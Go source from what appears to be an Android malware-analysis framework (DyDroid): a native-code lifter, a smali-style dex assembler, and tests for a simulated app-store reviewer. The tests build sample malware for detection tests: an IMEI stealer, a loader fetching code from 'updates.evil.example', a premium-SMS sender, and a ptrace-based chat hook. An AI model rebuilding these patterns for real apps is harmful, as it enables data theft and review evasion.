		if i+1 < len(syms) {
			end = syms[i+1].Entry
		}
		if len(extents) > 0 {
			extents[len(extents)-1].end = min(extents[len(extents)-1].end, s.Entry)
		}
		extents = append(extents, extent{name: s.Name, start: s.Entry, end: end})
	}
	for _, ext := range extents {
		if ext.end <= ext.start {
			continue
		}
		p.Functions = append(p.Functions, liftNativeFunc(lib, ext.name, ext.start, ext.end))
	}
	return p
}

func liftNativeFunc(lib *nativebin.Library, name string, start, end int) *Function {
	code := lib.Code[start:end]
	// Basic blocks: leaders at 0, branch targets (within extent), and
	// instructions after branches/returns.
	leaders := map[int]bool{0: true}
	for pc, in := range code {
		if in.Op.IsBranch() {
			t := in.Target - start
			if t >= 0 && t < len(code) {
				leaders[t] = true
			}
		}
		if (in.Op.IsBranch() || in.Op == nativebin.Ret) && pc+1 < len(code) {
			leaders[pc+1] = true
		}
	}
	starts := make([]int, 0, len(leaders))
	for pc := range leaders {
		starts = append(starts, pc)
	}
	sort.Ints(starts)
	blockAt := make(map[int]int, len(starts))
	for i, s := range starts {
		blockAt[s] = i
	}
	fn := &Function{Name: name}
	for i, s := range starts {
		e := len(code)
		if i+1 < len(starts) {
			e = starts[i+1]
		}
		blk := &Block{Index: i}
		for _, in := range code[s:e] {
			if st, ok := liftNativeInstr(in); ok {
				blk.Stmts = append(blk.Stmts, st)
			}
		}
		last := code[e-1]
		switch {
		case last.Op == nativebin.B:
			if t, ok := blockAt[last.Target-start]; ok {
				blk.Succs = append(blk.Succs, t)
			}
		case last.Op.IsConditional():
			if t, ok := blockAt[last.Target-start]; ok {
				blk.Succs = append(blk.Succs, t)
			}
			if e < len(code) {
				blk.Succs = append(blk.Succs, blockAt[e])
			}
		case last.Op == nativebin.Ret:
			// no successors
		default:
			if e < len(code) {
				blk.Succs = append(blk.Succs, blockAt[e])
			}
		}
		fn.Blocks = append(fn.Blocks, blk)
	}
	return fn
}

func liftNativeInstr(in nativebin.Instr) (Stmt, bool) {
	switch in.Op {
	case nativebin.NopN:
		return Stmt{}, false
	case nativebin.MovI, nativebin.MovR, nativebin.Ldrb, nativebin.Strb,
		nativebin.AddR, nativebin.SubR, nativebin.XorR, nativebin.AndR,
		nativebin.OrrR, nativebin.AddI:
		return Stmt{Pattern: PatAssign}, true
	case nativebin.Cmp, nativebin.CmpI:
		return Stmt{Pattern: PatTest}, true
	case nativebin.B:
		return Stmt{Pattern: PatJump}, true
	case nativebin.Beq, nativebin.Bne, nativebin.Blt, nativebin.Bge:
		return Stmt{Pattern: PatControl}, true
	case nativebin.Bl:
		return Stmt{Pattern: PatCall, Detail: in.Sym}, true
	case nativebin.Svc:
		return Stmt{Pattern: PatLib, Detail: sysName(in.Imm)}, true
	case nativebin.Ret:
		return Stmt{Pattern: PatHalt}, true
	case nativebin.Push, nativebin.Pop:
		return Stmt{Pattern: PatStack}, true
	default:
		return Stmt{Pattern: PatUnknown}, true
	}
}

func sysName(num int64) string {
	switch num {
	case nativebin.SysExit:
		return "exit"
	case nativebin.SysRead:
		return "read"
	case nativebin.SysWrite:
		return "write"
	case nativebin.SysOpen:
		return "open"
	case nativebin.SysClose:
		return "close"
	case nativebin.SysUnlink:
		return "unlink"
	case nativebin.SysTime:
		return "time"
	case nativebin.SysSetuid:
		return "setuid"
	case nativebin.SysGetuid:
		return "getuid"
	case nativebin.SysPtrace:
		return "ptrace"
	case nativebin.SysRename:
		return "rename"
	case nativebin.SysConnect:
		return "connect"
	case nativebin.SysSend:
		return "send"
	case nativebin.SysFindProc:
		return "findproc"
	default:
		return "sys?"
	}
}
