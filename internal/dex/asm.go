package dex

import (
	"fmt"
	"strconv"
	"strings"
)

// Assemble parses smali-like text produced by DisassembleClass back into a
// class. Together with Disassemble it gives the apktool analogue a real
// decompile/reassemble cycle.
func Assemble(src string) (*Class, error) {
	p := &asmParser{lines: strings.Split(src, "\n")}
	c, err := p.parseClass()
	if err != nil {
		return nil, fmt.Errorf("dex: assemble: line %d: %w", p.pos, err)
	}
	return c, nil
}

// AssembleFile assembles multiple smali sources into one file. Sources are
// processed in the given order.
func AssembleFile(sources []string) (*File, error) {
	f := &File{}
	for i, src := range sources {
		c, err := Assemble(src)
		if err != nil {
			return nil, fmt.Errorf("dex: source %d: %w", i, err)
		}
		f.Classes = append(f.Classes, c)
	}
	if err := f.Validate(); err != nil {
		return nil, err
	}
	return f, nil
}

type asmParser struct {
	lines []string
	pos   int
}

func (p *asmParser) next() (string, bool) {
	for p.pos < len(p.lines) {
		line := strings.TrimSpace(p.lines[p.pos])
		p.pos++
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		return line, true
	}
	return "", false
}

func (p *asmParser) parseClass() (*Class, error) {
	line, ok := p.next()
	if !ok || !strings.HasPrefix(line, ".class ") {
		return nil, fmt.Errorf("expected .class directive, got %q", line)
	}
	toks := strings.Fields(line)
	desc := toks[len(toks)-1]
	c := &Class{
		Name:  DescToJava(desc),
		Flags: parseFlags(toks[1 : len(toks)-1]),
	}
	for {
		line, ok := p.next()
		if !ok {
			return c, nil
		}
		switch {
		case strings.HasPrefix(line, ".super "):
			c.Super = DescToJava(strings.TrimSpace(strings.TrimPrefix(line, ".super ")))
		case strings.HasPrefix(line, ".source "):
			s, err := strconv.Unquote(strings.TrimSpace(strings.TrimPrefix(line, ".source ")))
			if err != nil {
				return nil, fmt.Errorf("bad .source: %w", err)
			}
			c.SourceFile = s
		case strings.HasPrefix(line, ".implements "):
			c.Interfaces = append(c.Interfaces,
				DescToJava(strings.TrimSpace(strings.TrimPrefix(line, ".implements "))))
		case strings.HasPrefix(line, ".field "):
			fl, err := parseField(line)
			if err != nil {
				return nil, err
			}
			c.Fields = append(c.Fields, fl)
		case strings.HasPrefix(line, ".method "):
			m, err := p.parseMethod(line)
			if err != nil {
				return nil, err
			}
			c.Methods = append(c.Methods, m)
		default:
			return nil, fmt.Errorf("unexpected directive %q", line)
		}
	}
}

func parseFlags(toks []string) AccessFlags {
	var f AccessFlags
	for _, t := range toks {
		switch t {
		case "public":
			f |= ACCPublic
		case "private":
			f |= ACCPrivate
		case "protected":
			f |= ACCProtected
		case "static":
			f |= ACCStatic
		case "final":
			f |= ACCFinal
		case "native":
			f |= ACCNative
		case "interface":
			f |= ACCInterface
		case "abstract":
			f |= ACCAbstract
		case "synthetic":
			f |= ACCSynthetic
		case "constructor":
			f |= ACCConstruct
		case "default":
			// placeholder emitted when no flags are set
		}
	}
	return f
}

func parseField(line string) (*Field, error) {
	toks := strings.Fields(strings.TrimPrefix(line, ".field "))
	if len(toks) == 0 {
		return nil, fmt.Errorf("empty .field")
	}
	nameType := toks[len(toks)-1]
	i := strings.LastIndex(nameType, ":")
	if i < 0 {
		return nil, fmt.Errorf("bad .field %q: missing type", line)
	}
	return &Field{
		Name:  nameType[:i],
		Type:  nameType[i+1:],
		Flags: parseFlags(toks[:len(toks)-1]),
	}, nil
}

func (p *asmParser) parseMethod(header string) (*Method, error) {
	toks := strings.Fields(strings.TrimPrefix(header, ".method "))
	if len(toks) == 0 {
		return nil, fmt.Errorf("empty .method")
	}
	sigTok := toks[len(toks)-1]
	open := strings.Index(sigTok, "(")
	closeIdx := strings.Index(sigTok, ")")
	if open < 0 || closeIdx < open {
		return nil, fmt.Errorf("bad method signature %q", sigTok)
	}
	params, err := splitDescriptors(sigTok[open+1 : closeIdx])
	if err != nil {
		return nil, fmt.Errorf("method %q: %w", sigTok, err)
	}
	m := &Method{
		Name:   sigTok[:open],
		Params: params,
		Return: sigTok[closeIdx+1:],
		Flags:  parseFlags(toks[:len(toks)-1]),
	}
	labels := make(map[string]int)
	type fixup struct {
		instr int
		label string
	}
	var fixups []fixup
	for {
		line, ok := p.next()
		if !ok {
			return nil, fmt.Errorf("unterminated method %s", m.Name)
		}
		switch {
		case line == ".end method":
			for _, fx := range fixups {
				t, ok := labels[fx.label]
				if !ok {
					return nil, fmt.Errorf("method %s: unknown label :%s", m.Name, fx.label)
				}
				m.Code[fx.instr].Target = t
			}
			return m, nil
		case strings.HasPrefix(line, ".registers "):
			n, err := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(line, ".registers ")))
			if err != nil {
				return nil, fmt.Errorf("bad .registers: %w", err)
			}
			m.Registers = n
		case strings.HasPrefix(line, ":"):
			labels[line[1:]] = len(m.Code)
		default:
			in, label, err := parseInstr(line)
			if err != nil {
				return nil, fmt.Errorf("method %s: %w", m.Name, err)
			}
			if label != "" {
				fixups = append(fixups, fixup{len(m.Code), label})
			}
			m.Code = append(m.Code, in)
		}
	}
}

// splitDescriptors splits a concatenated parameter descriptor string into
// individual descriptors.
func splitDescriptors(s string) ([]string, error) {
	var out []string
	for len(s) > 0 {
		d, rest, err := scanDescriptor(s)
		if err != nil {
			return nil, err
		}
		out = append(out, d)
		s = rest
	}
	return out, nil
}

func scanDescriptor(s string) (desc, rest string, err error) {
	i := 0
	for i < len(s) && s[i] == '[' {
		i++
	}
	if i >= len(s) {
		return "", "", fmt.Errorf("truncated descriptor %q", s)
	}
	switch s[i] {
	case 'L':
		j := strings.IndexByte(s[i:], ';')
		if j < 0 {
			return "", "", fmt.Errorf("unterminated class descriptor %q", s)
		}
		return s[:i+j+1], s[i+j+1:], nil
	case 'V', 'Z', 'B', 'S', 'C', 'I', 'J', 'F', 'D':
		return s[:i+1], s[i+1:], nil
	default:
		return "", "", fmt.Errorf("bad descriptor %q", s)
	}
}

// parseInstr parses one instruction line; for branch instructions the
// returned label is the pending target.
func parseInstr(line string) (Instruction, string, error) {
	mnemonic, rest := splitMnemonic(line)
	op, ok := opByName(mnemonic)
	if !ok {
		return Instruction{}, "", fmt.Errorf("unknown mnemonic %q", mnemonic)
	}
	ops, err := splitOperands(rest)
	if err != nil {
		return Instruction{}, "", err
	}
	in := Instruction{Op: op}
	need := func(n int) error {
		if len(ops) != n {
			return fmt.Errorf("%s: want %d operands, got %d", mnemonic, n, len(ops))
		}
		return nil
	}
	reg := func(s string) (int, error) {
		if !strings.HasPrefix(s, "v") {
			return 0, fmt.Errorf("bad register %q", s)
		}
		return strconv.Atoi(s[1:])
	}
	switch op {
	case OpNop, OpReturnVoid:
		return in, "", need(0)
	case OpConst:
		if err := need(2); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		in.Value, err = strconv.ParseInt(ops[1], 10, 64)
		return in, "", err
	case OpConstString:
		if err := need(2); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		in.Str, err = strconv.Unquote(ops[1])
		return in, "", err
	case OpNewInstance, OpCheckCast:
		if err := need(2); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		in.Str = DescToJava(ops[1])
		return in, "", nil
	case OpNewArray, OpInstanceOf:
		if err := need(3); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		if in.B, err = reg(ops[1]); err != nil {
			return in, "", err
		}
		if op == OpNewArray {
			in.Str = ops[2]
		} else {
			in.Str = DescToJava(ops[2])
		}
		return in, "", nil
	case OpMove, OpArrayLength:
		if err := need(2); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		in.B, err = reg(ops[1])
		return in, "", err
	case OpMoveResult, OpReturn, OpThrow:
		if err := need(1); err != nil {
			return in, "", err
		}
		in.A, err = reg(ops[0])
		return in, "", err
	case OpIGet, OpIPut:
		if err := need(3); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		if in.B, err = reg(ops[1]); err != nil {
			return in, "", err
		}
		in.Field, err = parseFieldRef(ops[2])
		return in, "", err
	case OpSGet, OpSPut:
		if err := need(2); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		in.Field, err = parseFieldRef(ops[1])
		return in, "", err
	case OpAdd, OpSub, OpMul, OpDiv, OpXor, OpArrayGet, OpArrayPut:
		if err := need(3); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		if in.B, err = reg(ops[1]); err != nil {
			return in, "", err
		}
		in.C, err = reg(ops[2])
		return in, "", err
	case OpIfEq, OpIfNe, OpIfLt, OpIfGe:
		if err := need(3); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		if in.B, err = reg(ops[1]); err != nil {
			return in, "", err
		}
		return in, strings.TrimPrefix(ops[2], ":"), nil
	case OpIfEqz, OpIfNez:
		if err := need(2); err != nil {
			return in, "", err
		}
		if in.A, err = reg(ops[0]); err != nil {
			return in, "", err
		}
		return in, strings.TrimPrefix(ops[1], ":"), nil
	case OpGoto:
		if err := need(1); err != nil {
			return in, "", err
		}
		return in, strings.TrimPrefix(ops[0], ":"), nil
	default: // invokes
		if len(ops) < 2 {
			return in, "", fmt.Errorf("%s: want {args}, methodref", mnemonic)
		}
		argsPart := ops[0]
		if !strings.HasPrefix(argsPart, "{") || !strings.HasSuffix(argsPart, "}") {
			return in, "", fmt.Errorf("%s: bad args %q", mnemonic, argsPart)
		}
		inner := strings.TrimSpace(argsPart[1 : len(argsPart)-1])
		if inner != "" {
			for _, a := range strings.Split(inner, ",") {
				r, err := reg(strings.TrimSpace(a))
				if err != nil {
					return in, "", err
				}
				in.Args = append(in.Args, r)
			}
		}
		in.Method, err = parseMethodRef(ops[1])
		return in, "", err
	}
}

func splitMnemonic(line string) (mnemonic, rest string) {
	if i := strings.IndexByte(line, ' '); i >= 0 {
		return line[:i], strings.TrimSpace(line[i+1:])
	}
	return line, ""
}

// splitOperands splits on commas that are outside quotes and braces.
func splitOperands(s string) ([]string, error) {
	if s == "" {
		return nil, nil
	}
	var out []string
	depth := 0
	inStr := false
	start := 0
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case inStr:
			if c == '\\' {
				i++
			} else if c == '"' {
				inStr = false
			}
		case c == '"':
			inStr = true
		case c == '{':
			depth++
		case c == '}':
			depth--
		case c == ',' && depth == 0:
			out = append(out, strings.TrimSpace(s[start:i]))
			start = i + 1
		}
	}
	if inStr || depth != 0 {
		return nil, fmt.Errorf("unbalanced operands %q", s)
	}
	out = append(out, strings.TrimSpace(s[start:]))
	return out, nil
}

// parseMethodRef parses "Lpkg/Cls;->name(sig)ret".
func parseMethodRef(s string) (MethodRef, error) {
	i := strings.Index(s, "->")
	if i < 0 {
		return MethodRef{}, fmt.Errorf("bad method ref %q", s)
	}
	open := strings.Index(s[i:], "(")
	if open < 0 {
		return MethodRef{}, fmt.Errorf("bad method ref %q: no signature", s)
	}
	return MethodRef{
		Class: DescToJava(s[:i]),
		Name:  s[i+2 : i+open],
		Sig:   s[i+open:],
	}, nil
}

// parseFieldRef parses "Lpkg/Cls;->name:type".
func parseFieldRef(s string) (FieldRef, error) {
	i := strings.Index(s, "->")
	if i < 0 {
		return FieldRef{}, fmt.Errorf("bad field ref %q", s)
	}
	j := strings.LastIndex(s, ":")
	if j < i {
		return FieldRef{}, fmt.Errorf("bad field ref %q: no type", s)
	}
	return FieldRef{
		Class: DescToJava(s[:i]),
		Name:  s[i+2 : j],
		Type:  s[j+1:],
	}, nil
}

// opByName resolves a smali mnemonic back to its opcode.
func opByName(name string) (Opcode, bool) {
	for op, n := range opNames {
		if n == name {
			return Opcode(op), true
		}
	}
	return 0, false
}
