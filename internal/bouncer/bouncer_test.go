package bouncer

import (
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
)

var refs = struct {
	imei, http, urlInit, openConn, getInput, fosInit, fosWrite, fosClose,
	readAll, loaderInit dex.MethodRef
}{
	imei: dex.MethodRef{Class: "android.telephony.TelephonyManager",
		Name: "getDeviceId", Sig: "()Ljava/lang/String;"},
	http: dex.MethodRef{Class: "java.net.HttpURLConnection",
		Name: "write", Sig: "(Ljava/lang/String;)V"},
	urlInit: dex.MethodRef{Class: "java.net.URL", Name: "<init>",
		Sig: "(Ljava/lang/String;)V"},
	openConn: dex.MethodRef{Class: "java.net.URL", Name: "openConnection",
		Sig: "()Ljava/net/URLConnection;"},
	getInput: dex.MethodRef{Class: "java.net.HttpURLConnection",
		Name: "getInputStream", Sig: "()Ljava/io/InputStream;"},
	fosInit: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
		Sig: "(Ljava/lang/String;)V"},
	fosWrite: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
		Sig: "([B)V"},
	fosClose: dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
		Sig: "()V"},
	readAll: dex.MethodRef{Class: "java.io.InputStream", Name: "readAll",
		Sig: "()[B"},
	loaderInit: dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
		Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
}

// malwarePayload builds App_M's malicious bytecode.
func malwarePayload(t *testing.T) []byte {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class("com.scm.Stealer", "java.lang.Object").Method("run", dex.ACCPublic, 5, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(refs.imei, 1).
		MoveResult(2).
		NewInstance(3, "java.net.HttpURLConnection").
		InvokeVirtual(refs.http, 3, 2).
		ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// appM packages the malware directly (the rejected submission).
func appM(t *testing.T) []byte {
	t.Helper()
	payload := malwarePayload(t)
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.appm", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.appm.Main", Main: true}}}},
		Dex: payload,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// appL fetches App_M's code at runtime (the approved submission).
func appL(t *testing.T, url string) []byte {
	t.Helper()
	pkg := "com.appl"
	dest := android.InternalDir(pkg) + "cache/update.dex"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	m := act.Method("onCreate", dex.ACCPublic, 10, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "java.net.URL").
		ConstString(2, url).
		InvokeDirect(refs.urlInit, 1, 2).
		InvokeVirtual(refs.openConn, 1).
		MoveResult(3).
		InvokeVirtual(refs.getInput, 3).
		MoveResult(4).
		IfEqz(4, "skip").
		NewInstance(5, "java.io.FileOutputStream").
		ConstString(6, dest).
		InvokeDirect(refs.fosInit, 5, 6).
		InvokeVirtual(refs.readAll, 4).
		MoveResult(7).
		InvokeVirtual(refs.fosWrite, 5, 7).
		InvokeVirtual(refs.fosClose, 5).
		ConstString(8, android.InternalDir(pkg)+"cache/odex").
		NewInstance(9, "dalvik.system.DexClassLoader").
		InvokeDirect(refs.loaderInit, 9, 6, 8, 0, 0).
		Label("skip").
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func trainedClassifier(t *testing.T) *droidnative.Classifier {
	t.Helper()
	df, err := dex.Decode(malwarePayload(t))
	if err != nil {
		t.Fatal(err)
	}
	var clf droidnative.Classifier
	if err := clf.Train("Swiss code monkeys", mail.FromDex(df)); err != nil {
		t.Fatal(err)
	}
	return &clf
}

func TestBouncerEvasionScenario(t *testing.T) {
	const url = "http://updates.evil.example/update.dex"
	clf := trainedClassifier(t)
	net := netsim.NewNetwork()
	r := &Reviewer{Classifier: clf, Network: net}

	// 1. App_M is rejected by the static scan.
	v, err := r.Review(appM(t))
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("App_M approved")
	}

	// 2. App_L passes review while the server withholds the payload.
	appLBytes := appL(t, url)
	v, err = r.Review(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Approved {
		t.Fatalf("App_L rejected during review: %s", v.Reason)
	}

	// 3. After release the server serves the malware; a re-review now
	// catches it (the loaded code is scanned), demonstrating the window.
	net.Serve(url, netsim.Payload{Data: malwarePayload(t)})
	v, err = r.Review(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("post-release review missed the loaded malware")
	}

	// 4. DyDroid, run post-release, both intercepts the payload and
	// attributes the remote provenance.
	an := core.NewAnalyzer(core.Options{Seed: 1, Classifier: clf, Network: net})
	res, err := an.AnalyzeAPK(appLBytes)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Malware) != 1 {
		t.Fatalf("DyDroid missed the loaded malware: %+v (status %s)", res.Malware, res.Status)
	}
	if urls := res.RemoteURLs(); len(urls) != 1 || urls[0] != url {
		t.Fatalf("remote provenance = %v", urls)
	}
}

func TestBouncerCatchesDynamicBehaviour(t *testing.T) {
	// An app that sends SMS right at launch is caught by the dynamic run
	// even without a classifier hit.
	pkg := "com.smsspam"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 4, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "android.telephony.SmsManager").
		ConstString(2, "+900").
		ConstString(3, "PREMIUM").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.SmsManager",
			Name: "sendTextMessage", Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}, 1, 2, 3).
		ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved {
		t.Fatal("SMS-at-launch app approved")
	}
}

func TestBouncerApprovesBenign(t *testing.T) {
	b := dex.NewBuilder()
	b.Class("com.ok.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.ok", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.ok.Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Approved {
		t.Fatalf("benign app rejected: %s", v.Reason)
	}
}

func TestBouncerRejectsStaticNativeMalware(t *testing.T) {
	// A chathook-style native library packaged in the archive is caught by
	// the static scan of lib/ entries.
	nb := nativebin.NewBuilder("libhook.so", "arm")
	target := nb.CString("com.tencent.mm")
	nb.Symbol("Java_com_mal_Hook_attack").
		MovI(0, 0).
		Svc(nativebin.SysSetuid).
		MovI(0, target).
		Svc(nativebin.SysFindProc).
		Svc(nativebin.SysPtrace).
		Ret()
	lib := nb.Build()
	libBytes, err := nativebin.Encode(lib)
	if err != nil {
		t.Fatal(err)
	}
	var clf droidnative.Classifier
	if err := clf.Train("Chathook ptrace", mail.FromNative(lib)); err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.nat.mal", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.nat.mal.Main", Main: true}}}},
		NativeLibs: map[string][]byte{"libhook.so": libBytes},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: &clf}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved || !strings.Contains(v.Reason, "Chathook") {
		t.Fatalf("verdict = %+v", v)
	}
}

func TestBouncerRejectsLocallyLoadedMalware(t *testing.T) {
	// Malware hidden in an asset and loaded at launch: the static scan of
	// classes.dex misses it, but the review's dynamic run intercepts the
	// load and classifies the loaded code.
	payload := malwarePayload(t)
	pkg := "com.local.loader"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 8, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "java.io.FileInputStream").
		ConstString(2, android.InternalDir(pkg)+"assets/upd.bin").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		NewInstance(3, "java.io.FileOutputStream").
		ConstString(4, android.InternalDir(pkg)+"cache/upd.dex").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 3, 4).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileInputStream", Name: "readAll",
			Sig: "()[B"}, 1).
		MoveResult(5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 3, 5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 3).
		ConstString(6, android.InternalDir(pkg)+"cache/odex").
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(refs.loaderInit, 7, 4, 6, 0, 0).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex:    dexBytes,
		Assets: map[string][]byte{"upd.bin": payload},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.Approved || !strings.Contains(v.Reason, "loaded code matches") {
		t.Fatalf("verdict = %+v", v)
	}
}

func TestBouncerRejectsGarbage(t *testing.T) {
	if _, err := (&Reviewer{Classifier: trainedClassifier(t)}).Review([]byte("junk")); err == nil {
		t.Fatal("garbage archive accepted")
	}
}

func TestReviewRecordsMetrics(t *testing.T) {
	reg := metrics.New()
	r := &Reviewer{Classifier: trainedClassifier(t), Metrics: reg}

	// A rejection from the static phase: no dynamic timing recorded.
	if v, err := r.Review(appM(t)); err != nil || v.Approved {
		t.Fatalf("verdict = %+v, err %v", v, err)
	}
	snap := reg.Snapshot()
	if snap.Counters["bouncer.rejected"] != 1 || snap.Counters["bouncer.approved"] != 0 {
		t.Fatalf("counters = %+v", snap.Counters)
	}
	if snap.Stages["bouncer.static"].Count != 1 || snap.Stages["bouncer.review"].Count != 1 {
		t.Fatalf("stages = %+v", snap.Stages)
	}
	if snap.Stages["bouncer.dynamic"].Count != 0 {
		t.Fatal("dynamic phase timed for a static rejection")
	}

	// An approval exercises both phases.
	if v, err := r.Review(appL(t, "http://updates.evil.example/update.dex")); err != nil || !v.Approved {
		t.Fatalf("verdict = %+v, err %v", v, err)
	}
	snap = reg.Snapshot()
	if snap.Counters["bouncer.approved"] != 1 {
		t.Fatalf("counters = %+v", snap.Counters)
	}
	if snap.Stages["bouncer.dynamic"].Count != 1 || snap.Stages["bouncer.review"].Count != 2 {
		t.Fatalf("stages = %+v", snap.Stages)
	}

	// A parse failure counts as an error, not a verdict.
	if _, err := r.Review([]byte("junk")); err == nil {
		t.Fatal("garbage accepted")
	}
	if got := reg.Counter("bouncer.errors"); got != 1 {
		t.Fatalf("bouncer.errors = %d", got)
	}
}

func TestReviewNilMetricsIsFine(t *testing.T) {
	// The registry is optional; a nil one must cost nothing and not panic.
	r := &Reviewer{Classifier: trainedClassifier(t)}
	if v, err := r.Review(appM(t)); err != nil || v.Approved {
		t.Fatalf("verdict = %+v, err %v", v, err)
	}
}
