package corpus

import (
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/core"
)

func genStore(t *testing.T, scale float64) *Store {
	t.Helper()
	st, err := Generate(Config{Seed: 42, Scale: scale})
	if err != nil {
		t.Fatalf("Generate: %v", err)
	}
	return st
}

func TestFullScalePlanSums(t *testing.T) {
	st := genStore(t, 1.0)
	p := Paper()
	if got := len(st.Apps); got != p.Total {
		t.Fatalf("total apps = %d, want %d", got, p.Total)
	}
	counts := map[string]int{}
	for _, app := range st.Apps {
		counts[app.Spec.Archetype]++
	}
	// Ad apps.
	if got := counts["adN"] + counts["adNT"] + counts["adPlain"]; got != p.AdApps {
		t.Fatalf("ad apps = %d, want %d", got, p.AdApps)
	}
	// Group B sums to the non-ad DEX interceptions.
	groupB := counts["vulnExternalDex"] + counts["ownDex"] + counts["bothDex"] +
		counts["remote"] + counts["swiss"] + counts["adware"] +
		counts["genericN"] + counts["generic"] + counts["packed"]
	if got := p.AdApps + groupB; got != p.DexIntercepted {
		t.Fatalf("dex intercepted = %d, want %d", got, p.DexIntercepted)
	}
	// Native interceptions.
	nvIntercepted := counts["adN"] + counts["genericN"] + counts["packed"] +
		counts["nvThird"] + counts["chathook"] + counts["vulnAir"] + counts["vulnDS"] +
